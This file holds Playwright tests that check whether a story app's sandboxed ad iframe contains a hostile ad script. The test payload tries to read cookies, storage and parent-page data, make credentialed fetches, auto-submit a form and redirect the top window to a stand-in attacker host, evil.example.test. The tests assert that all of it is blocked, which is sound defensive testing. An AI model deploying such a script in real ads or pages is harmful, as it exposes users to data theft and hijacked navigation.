import { expect, test } from './app.fixture.ts'
import { openNewStory, play } from './screens.ts'

/** A creative that tries all it can, and writes down what it got. */
const hostile = `
  const tries = {
    page: () => parent.document.title,
    address: () => parent.location.href,
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    cookie: () => document.cookie,
    frame: () => frameElement.id,
  }
  const got = { referrer: document.referrer, origin: self.origin }
  for (const [name, attempt] of Object.entries(tries)) {
    try { got[name] = String(attempt()) } catch { got[name] = 'refused' }
  }
  for (const go of [() => { top.location = 'https://evil.example.test/' }, () => parent.location.replace('/terms')]) {
    try { go() } catch {}
  }
  const ask = (path) => fetch(path, { credentials: 'include' }).then(() => 'answered', () => 'refused')
  Promise.all([ask('/api/user'), ask('https://evil.example.test/')]).then(([user, evil]) => {
    document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example.test/" target="_top"></form>')
    document.forms[0].submit()
    console.log(JSON.stringify({ ...got, user, evil }))
    location.href = 'https://evil.example.test/'
  })
`

test.use({
  env: { AD_SCRIPT_URL: 'https://ads.example.test/show.js' },
  allowedComplaints: /Content Security Policy|sandbox|Unsafe attempt|blocked|Failed to load resource/i,
})

test('it reads nothing and leads nowhere', async ({ page, reader }) => {
  await page.route('https://ads.example.test/show.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: hostile }),
  )
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await openNewStory(page, reader)
  const address = page.url()
  const note = page.waitForEvent('console', (line) => line.type() === 'log' && line.text().startsWith('{'))
  await play(page, 'I wait')
  expect(JSON.parse((await note).text())).toEqual({
    referrer: '',
    origin: 'null',
    page: 'refused',
    address: 'refused',
    storage: 'refused',
    session: 'refused',
    cookie: 'refused',
    frame: 'refused',
    user: 'refused',
    evil: 'refused',
  })
  await page.waitForTimeout(1_000)
  expect(page.url()).toBe(address)
  await expect(page.getByRole('article', { name: 'Story' })).toHaveCount(2)
  expect(asked.filter((url) => url.includes('evil.example.test'))).toEqual([])
})

test('a script that does not come leaves no box', async ({ page, reader }) => {
  await page.route('https://ads.example.test/show.js', (route) => route.abort())
  await openNewStory(page, reader)
  await play(page, 'I wait')
  await expect(page.locator('iframe[title=Advertisement]')).toHaveCount(1)
  await expect(page.getByText('First Ad')).toHaveCount(0)
})

test('an ad says how high it is once, and is given 280 px at most', async ({ page, reader }) => {
  const body = `for (const adHeightPx of [1000, 40]) parent.postMessage({ adHeightPx }, '*')`
  await page.route('https://ads.example.test/show.js', (route) =>
    route.fulfill({ contentType: 'text/javascript', body }),
  )
  await openNewStory(page, reader)
  await play(page, 'I wait')
  await expect(page.getByText('First Ad')).toBeVisible()
  await expect(page.locator('iframe[title=Advertisement]')).toHaveCSS('height', '280px')
})
